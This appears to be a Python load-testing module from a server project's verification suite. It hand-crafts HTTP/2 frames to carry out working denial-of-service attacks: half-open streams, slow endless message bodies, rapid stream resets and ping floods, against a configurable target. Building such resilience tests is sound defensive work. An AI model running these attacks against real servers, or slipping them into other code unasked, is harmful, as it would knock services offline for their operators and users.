"""An HTTP/2 connection that follows the protocol but otherwise misbehaves.

Its calls never send their messages, never end them, or are reset at once; or it sends pings. It writes frames by hand,
since no client library would do this.

    python -m verification.load.hostile TARGET '{"kind": "reset", ...}'     attacks, and prints what it sent as JSON
"""

from __future__ import annotations

import asyncio
import json
import struct
import sys
import time
from collections.abc import Callable, Coroutine
from dataclasses import asdict, dataclass, field
from typing import Any

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW = 0, 1, 3, 4, 6, 7, 8
END_HEADERS, ACK = 4, 1
MAX_FRAME_BYTES = 16384
STREAMS_SETTING, WINDOW_SETTING = 3, 4
MESSAGE_BYTES = 15 << 20
"""The size of a message that is started and never ended: as much of it is sent as the server accepts."""


@dataclass(frozen=True)
class Plan:
    """An attack.

    kind: a name of ATTACKS. paths: of the RPCs, in turn. token: "" for none. streams: open at once on a connection;
    fewer if the server says so. per_second: calls or pings of all connections together. bytes_per_second: of their
    messages (a gigabit line): the attacker shares the machine with the server, which must not wait for it. first: a
    whole message before the one that never ends; hex. after_reply: the one that never ends begins only when the server
    begins to reply to `first`, which it has then read. deaf: it accepts no replies. most_calls, most_bytes: of calls or
    pings, and of messages, after which the attack ends; 0: no limit. most_held_bytes: of messages on streams that are
    open; while they have as many, the attack waits until the server ends some; 0: it never waits.
    """

    kind: str
    paths: list[str]
    token: str = ""
    connections: int = 4
    streams: int = 1000
    seconds: float = 2.0
    per_second: int = 5000
    bytes_per_second: int = 125_000_000
    first: str = ""
    after_reply: bool = False
    deaf: bool = False
    most_calls: int = 0
    most_bytes: int = 0
    most_held_bytes: int = 0


@dataclass
class Sent:
    calls: int = 0
    bytes: int = 0
    resets: int = 0
    pings: int = 0
    lost: dict[str, int] = field(default_factory=dict)  # connections that the server ended, by its reason


class Lost(Exception):
    """The server ended the connection."""


class Over(Exception):
    """The attack's time is over."""


class Rate:
    """Limits all connections of an attack to its rates, until it is over."""

    def __init__(self, plan: Plan) -> None:
        self._plan = plan
        self._began = time.monotonic()
        self._spent = 0.0  # in seconds
        self._calls = 0
        self._bytes = 0
        self.held_bytes = 0  # of messages on open streams

    @property
    def over(self) -> bool:
        enough = 0 < self._plan.most_calls <= self._calls or 0 < self._plan.most_bytes <= self._bytes
        return enough or time.monotonic() - self._began >= self._plan.seconds

    @property
    def waits(self) -> bool:
        """True while the open streams have all the bytes that they may have."""
        return 0 < self._plan.most_held_bytes <= self.held_bytes

    async def spend(self, calls: int = 0, count: int = 0) -> None:
        """Waits until that many more calls, or bytes of messages, may be sent."""
        self._spent = max(self._spent, time.monotonic() - self._began - 0.02)  # unused time does not accumulate
        self._calls += calls
        self._bytes += count
        self._spent += calls / self._plan.per_second + count / self._plan.bytes_per_second
        if self.over:
            raise Over
        await asyncio.sleep(max(self._spent - (time.monotonic() - self._began), 0.0))


class Connection:
    def __init__(self, target: str, plan: Plan, rate: Rate, sent: Sent) -> None:
        self._target = target
        self._rate = rate
        self._plan = plan
        self._sent = sent
        self._next = 1
        self._window = 65535
        self._stream_window = 65535
        self._windows: dict[int, int] = {}  # of open streams
        self._held: dict[int, int] = {}  # bytes of their messages
        self._unanswered: set[int] = set()  # those on which the plan has to wait for a reply
        self._limit = plan.streams
        self._changed = asyncio.Event()
        self._why = ""
        self._reader: asyncio.StreamReader
        self._writer: asyncio.StreamWriter

    async def run(self) -> None:
        """Attacks until the time is over; reconnects when the server closes the connection."""
        while not self._rate.over:
            host, _, port = self._target.rpartition(":")
            self._next, self._window, self._why = 1, 65535, ""
            for stream in list(self._windows):
                self._forget(stream)
            try:
                self._reader, self._writer = await asyncio.open_connection(host, int(port))
            except OSError:
                await asyncio.sleep(0.05)
                continue
            listening = asyncio.create_task(self._listen())
            try:
                settings = struct.pack(">HI", WINDOW_SETTING, 0) if self._plan.deaf else b""
                self._writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
                await ATTACKS[self._plan.kind](self)
            except Over:
                return
            except (OSError, Lost):
                self._sent.lost[self._why or "closed"] = self._sent.lost.get(self._why or "closed", 0) + 1
            finally:
                listening.cancel()
                self._writer.transport.abort()

    async def half_open(self) -> None:
        """Sends headers and nothing after them."""
        while True:
            await self._room()
            await self._begin()

    async def slow(self) -> None:
        """Sends messages that never end, each as far as the server allows, then a byte now and then."""
        rest: dict[int, int] = {}
        while True:
            if len(self._windows) < self._limit:
                stream = await self._begin()
                opening = struct.pack(">BI", 0, MESSAGE_BYTES)
                if self._plan.first:
                    message = bytes.fromhex(self._plan.first)
                    opening = struct.pack(">BI", 0, len(message)) + message + opening
                self._writer.write(frame(DATA, 0, stream, opening))
                self._window -= len(opening)
                self._windows[stream] -= len(opening)
                rest[stream] = MESSAGE_BYTES - 1
                if self._plan.after_reply:
                    self._unanswered.add(stream)
            moved = False
            for stream in list(rest):
                if stream not in self._windows:
                    del rest[stream]
                    continue
                if stream in self._unanswered:
                    continue
                count = min(self._window, self._windows[stream], rest[stream], MAX_FRAME_BYTES)
                if count > 0 and not self._rate.waits:
                    await self._rate.spend(count=count)
                    if stream not in self._windows:
                        continue
                    self._writer.write(frame(DATA, 0, stream, bytes(count)))
                    self._window -= count
                    self._windows[stream] -= count
                    rest[stream] -= count
                    self._held[stream] = self._held.get(stream, 0) + count
                    self._rate.held_bytes += count
                    self._sent.bytes += count
                    moved = True
            await self._drain()
            if not moved and len(self._windows) >= self._limit:
                await self._wait()

    async def rapid_reset(self) -> None:
        while True:
            await self._rate.spend(calls=64)
            for _ in range(64):
                stream = await self._begin(paced=True)
                self._writer.write(frame(RESET, 0, stream, struct.pack(">I", 8)))
                self._forget(stream)
                self._sent.resets += 1
            await self._drain()

    async def ping(self) -> None:
        while True:
            await self._rate.spend(calls=64)
            self._writer.write(frame(PING, 0, 0, bytes(8)) * 64)
            self._sent.pings += 64
            await self._drain()

    async def _begin(self, *, paced: bool = False) -> int:
        if not paced:
            await self._rate.spend(calls=1)
        path = self._plan.paths[self._sent.calls % len(self._plan.paths)]
        stream, self._next = self._next, self._next + 2
        self._windows[stream] = self._stream_window
        self._writer.write(frame(HEADERS, END_HEADERS, stream, headers(path, self._plan.token)))
        self._sent.calls += 1
        if not paced:
            await self._drain()
        return stream

    def _forget(self, stream: int) -> None:
        self._windows.pop(stream, None)
        self._unanswered.discard(stream)
        self._rate.held_bytes -= self._held.pop(stream, 0)

    async def _room(self) -> None:
        while len(self._windows) >= self._limit:
            await self._wait()

    async def _wait(self) -> None:
        """Waits for a frame from the server, or a moment."""
        if self._rate.over:
            raise Over
        self._changed.clear()
        waiting = asyncio.ensure_future(self._changed.wait())
        await asyncio.wait([waiting], timeout=0.05)
        waiting.cancel()
        if self._why:
            raise Lost

    async def _drain(self) -> None:
        if self._why:
            raise Lost
        await self._writer.drain()
        await asyncio.sleep(0)

    async def _listen(self) -> None:
        try:
            while True:
                header = await self._reader.readexactly(9)
                length = int.from_bytes(header[:3], "big")
                payload = await self._reader.readexactly(length)
                self._take(header[3], header[4], int.from_bytes(header[5:], "big"), payload)
                self._changed.set()
        except (asyncio.IncompleteReadError, OSError):
            self._why = self._why or "closed"
            self._changed.set()

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                name, value = struct.unpack_from(">HI", payload, at)
                if name == STREAMS_SETTING:
                    self._limit = min(self._plan.streams, value)
                elif name == WINDOW_SETTING:
                    for open_stream in self._windows:
                        self._windows[open_stream] += value - self._stream_window
                    self._stream_window = value
            self._writer.write(frame(SETTINGS, ACK, 0))
        elif kind == WINDOW:
            more = int.from_bytes(payload, "big")
            if stream == 0:
                self._window += more
            elif stream in self._windows:
                self._windows[stream] += more
        elif kind == PING and not flags & ACK:
            self._writer.write(frame(PING, ACK, 0, payload))
        elif kind == RESET or (kind in (HEADERS, DATA) and flags & 1):
            self._forget(stream)
            if kind != RESET:  # the call has ended for the server only; reset the client's side
                self._writer.write(frame(RESET, 0, stream, struct.pack(">I", 8)))
        elif kind == HEADERS:
            self._unanswered.discard(stream)
        elif kind == GOAWAY:
            self._why = payload[8:].decode(errors="replace") or "goaway"


ATTACKS: dict[str, Callable[[Connection], Coroutine[Any, Any, None]]] = {
    "half-open": Connection.half_open,
    "slow": Connection.slow,
    "half-frame": Connection.slow,
    "reset": Connection.rapid_reset,
    "ping": Connection.ping,
}


async def attack(target: str, plan: Plan) -> Sent:
    sent, rate = Sent(), Rate(plan)
    await asyncio.gather(*(Connection(target, plan, rate, sent).run() for _ in range(plan.connections)))
    return sent


def headers(path: str, token: str = "") -> bytes:
    """Returns the payload of the HEADERS frame that begins a call."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "x",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    if token:
        fields["authorization"] = f"Bearer {token}"
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in fields.items())


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Returns an HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(text: str) -> bytes:
    """Encodes a header's name or value literally, as HPACK allows."""
    data = text.encode()
    if len(data) < 127:
        return bytes([len(data)]) + data
    length, rest = b"\x7f", len(data) - 127
    while rest >= 128:
        length += bytes([rest % 128 + 128])
        rest //= 128
    return length + bytes([rest]) + data


if __name__ == "__main__":
    print(json.dumps(asdict(asyncio.run(attack(sys.argv[1], Plan(**json.loads(sys.argv[2])))))))
